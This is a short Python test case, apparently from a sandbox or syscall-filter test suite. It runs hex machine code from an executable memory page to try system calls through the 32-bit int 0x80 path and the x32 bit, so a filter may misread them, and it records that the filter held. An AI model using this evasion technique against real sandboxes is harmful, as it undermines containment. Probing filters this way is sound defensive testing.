# Tries: system calls by the numbers of another architecture, which a filter may take for harmless ones.
# Held: crashed
# Variants: 3
import ctypes, mmap, os, platform

# getpid by int 0x80; socket by int 0x80; getpid with the x32 bit.
CODES = ["b814000000cd80c3", "b867010000bb02000000b901000000ba00000000cd80c3", "b8270000400f05c3"]

def f(x):
    if platform.machine() != "x86_64":
        os._exit(1)
    memory = mmap.mmap(-1, 4096, prot=7)
    memory.write(bytes.fromhex(CODES[VARIANT]))
    address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    return ctypes.CFUNCTYPE(ctypes.c_int)(address)()
